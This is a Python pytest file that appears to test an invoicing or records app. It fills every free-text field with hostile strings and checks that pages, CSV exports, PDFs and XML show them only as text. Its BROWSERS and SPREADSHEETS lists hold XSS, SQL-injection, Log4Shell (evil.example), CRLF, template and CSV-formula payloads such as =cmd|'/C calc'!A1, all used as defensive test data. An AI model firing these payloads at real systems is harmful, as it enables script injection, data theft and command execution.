"""Hostile texts in every text field of every record: pages, lists, CSV files and documents show them as texts."""

import csv
import io
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

import retainer
from retainer.kernel.resource import Operation
from retainer.web.csv_files import BYTE_ORDER_MARK
from tests.api.test_files import LINE, PDF, SETTINGS, XML, set_account
from tests.console.visitor import Visitor, WebPage, admin_of
from tests.contract.cases import CREATES, bare, body_schema, is_free_text, kinds, schema_fields
from tests.databases import any_database
from tests.documents.made import hostile_texts
from tests.factories import ApiClient
from tests.length import first

pytestmark = any_database
BROWSERS = [
    *("<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>"),
    *("</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><img src=x>"),
    *('"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" autofocus onfocus=alert(1) x="'),
    *("' onmouseover='alert(1)", '"onclick=alert(1)//', "` onload=alert(1)", "<iframe srcdoc='<script>1</script>'>"),
    *("<a href=javascript:alert(1)>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>"),
    *("<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<!-- x", "--> x", "<!x>"),
    *("<form action=//evil.example><button>x", "<object data=x>", "<embed src=x>", "<math><mi xlink:href=x>"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot; onload=x", "\\x3cscript\\x3e", "\\u003cb>"),
    *("javascript:alert(document.cookie)", "data:text/html,<script>1</script>", "vbscript:msgbox(1)", "JaVaScRiPt:x"),
    *("<scr\u0000ipt>", "<\u200bscript>", "\uff1cscript\uff1e", "<script\u2028>alert(1)", "{{ config }}", "{% raw %}"),
    *("#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/x}", "'; DROP TABLE clients; --", '" OR "1"="1', "../../x"),
    *("%00", "%0d%0aSet-Cookie: x=1", "x\r\nSet-Cookie: x=1", "\ud800", "a\u0000b", "\u0000"),
]
"""Texts that a browser, a template or a statement would run, if it took them for its own."""
SPREADSHEETS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '"=1+1', '";=1+1', '",=1+1', "'=1+1"),
    *(
        "=cmd|'/C calc'!A1",
        "+cmd|'/C calc'!A1",
        "\u3000=1+1",
        "\u2003-1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u202e@A1",
        "\x7f-1",
        "\x0b=1+1",
        "\x85@A1",
    ),
]
"""Texts that a spreadsheet would run as a formula."""
TEXTS = list(
    dict.fromkeys([*hostile_texts(), *BROWSERS, *SPREADSHEETS, "x" * 60_000, "\u202e\u2066evil", "\u0301\u0301"])
)
GROUP = 8
GROUPS = [TEXTS[start :: -(-len(TEXTS) // GROUP)] for start in range(-(-len(TEXTS) // GROUP))]
"""The texts in groups, each with texts of all sorts; half of them are tried, and in the short tier one."""
FORMULA = re.compile(
    "[\\s\\x00-\\x1f\\x7f-\\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+@\\-\uff1d\uff0b\uff0d\uff20]"
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")
TEMPLATES = "".join(path.read_text("utf-8") for path in Path(retainer.__file__).parent.rglob("templates/**/*.html"))
NEEDED = {"lines": LINE, "plugins": {"status": "active", "slug": "shop", "version": "1.0"}}
"""What parts of records need beside text."""
RECORDS = ("clients", "external-contacts", "projects", "tasks", "time-entries", "expenses", "quotes", "invoices")
LISTS = (*RECORDS, "credit-notes", "tickets", "sites", "tags")


class Markup(HTMLParser):
    """What a browser would run or load of a page, although no template of ours has it."""

    tags = frozenset(re.findall(r"<([a-z][a-z0-9]*)", TEMPLATES))

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        links = [given[name] or "" for name in ("href", "src", "action", "formaction") if name in given]
        hostile = [link for link in links if link and not re.match(r"/(?!/)|\?|#|https?://|mailto:|tel:", link)]
        attributes = [name for name in given if name.startswith("on") or name in {"style", "srcdoc", "http-equiv"}]
        is_inline = tag == "script" and "src" not in given
        self.found += [f"<{tag}> {attrs}"] * bool(tag not in self.tags or hostile or attributes or is_inline)


def with_text(schema: dict[str, Any], text: str) -> dict[str, Any]:
    """The fields of a body that take free text, with this text as far as it fits; those of its parts included."""
    found: dict[str, Any] = {}
    for name, field in schema_fields(schema).items():
        if "array" in kinds(field) and "properties" in bare(field["items"]):
            found[name] = [NEEDED.get(name, {}) | with_text(bare(field["items"]), text)]
        elif kinds(field) <= {"string", "null"} and "maxLength" in field:
            prefix = "https://shop.example/" if field.get("format") == "uri" else ""
            if not prefix and not is_free_text(field):
                continue
            found[name] = (prefix + text)[: field["maxLength"]]
    return found


def create(api: ApiClient, operation: Operation, text: str, **members: Any) -> tuple[str, dict[str, Any]]:
    """Create a record with a text in every field that does not refuse it; return the path of its page, and it."""
    path = api.at(operation.path)
    body = {name: value for name, value in with_text(body_schema(operation), text).items() if name not in members}
    needed = api.recipe(path) | members | ({"lines": [LINE]} if "status" in members else {})
    while (answer := api.post(path, needed | body)).status == 422:
        assert body, answer
        refused = {name.partition(".")[0] for name in answer.errors} & body.keys()
        body = {name: value for name, value in body.items() if name not in refused} if refused else {}
    assert answer.status == 201, (text, answer)
    collection, _, parent = operation.path.partition("/{")[0].strip("/"), None, path.split("/")
    is_part = "{" in operation.path and not operation.path.endswith("credit-notes")
    kind = "credit-notes" if operation.path.endswith("credit-notes") else collection
    folder = "/console" if kind == "webhooks" else "/console/records"
    return f"{folder}/{kind}/{parent[2] if is_part else answer.data['id']}", answer.data


def fill(api: ApiClient, text: str) -> dict[str, str]:
    """Create a record of each kind with a text; return the texts that its clients, invoices and files must show."""
    by_path = {operation.path: operation for operation in CREATES}
    page, client = create(api, by_path["/clients"], text, country="DE", tax_rate="19")
    found = {page: client["name"]}
    for operation in CREATES:
        has_client = "client_id" in schema_fields(body_schema(operation)) and operation.path != "/clients"
        page, record = create(api, operation, text, **({"client_id": client["id"]} if has_client else {}))
        found[page] = next(
            (record[name] for name in ("name", "subject", "title", "description") if record.get(name)), ""
        )
    del found[next(page for page in found if "/tags/" in page)]  # it has no page
    page, _ = create(api, by_path["/invoices"], text, client_id=client["id"], status="sent")
    return found | {page: client["name"]}


def problems_of(page: WebPage, texts: list[str]) -> list[str]:
    """What of a page is not as our templates write it."""
    raw = [text for text in texts if "<" in text and len(text) > 3 and text in page.html and text not in TEMPLATES]
    return Markup(page.html).found + raw


def formulas_of(file: WebPage) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run, or that no column has."""
    header, *rows = csv.reader(io.StringIO(file.html.removeprefix(BYTE_ORDER_MARK), newline=""))
    assert all(len(row) == len(header) for row in rows)
    return [cell for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("texts", first(GROUPS[::2]), ids=lambda texts: ascii(texts[0])[1:30])
def test_hostile_texts_stay_texts(api: ApiClient, texts: list[str]):
    set_account(api, **SETTINGS)
    api.patch(f"/clients/{api.usual('/clients')}", {"country": "DE"})
    visitor: Visitor = admin_of(api)
    shown = {page: (text, name) for text in texts for page, name in fill(api, text).items()}
    for path, (text, name) in shown.items():
        page = visitor.get(path)
        assert page.status == 200, (path, text)
        assert problems_of(page, texts) == [], (path, text)
        assert name.strip()[:40] in unescape(page.html), (path, text)
        kind, record_id = path.split("/")[-2:]
        if kind in {"quotes", "invoices", "credit-notes"}:
            file = api.get(f"/{kind}/{record_id}", headers=PDF)
            assert file.body.startswith(b"%PDF"), (path, text, file)
    for kind in LISTS:
        page = visitor.get(f"/console/records/{kind}?per_page=100")
        assert problems_of(page, texts) == [], kind
        assert formulas_of(visitor.get(f"/console/records/{kind}/csv")) == [], kind
    for kind in ("invoices", "credit-notes"):
        for record in api.get(f"/{kind}", {"per_page": "100"}).data:
            if record.get("status") != "draft":
                ET.fromstring(api.get(f"/{kind}/{record['id']}", headers=XML).body)
    for path in ("", "/search?q=x", "/reports/revenue-by-client", "/reports/profitability", "/requests", "/audit"):
        assert problems_of(visitor.get(f"/console{path}"), texts) == [], path
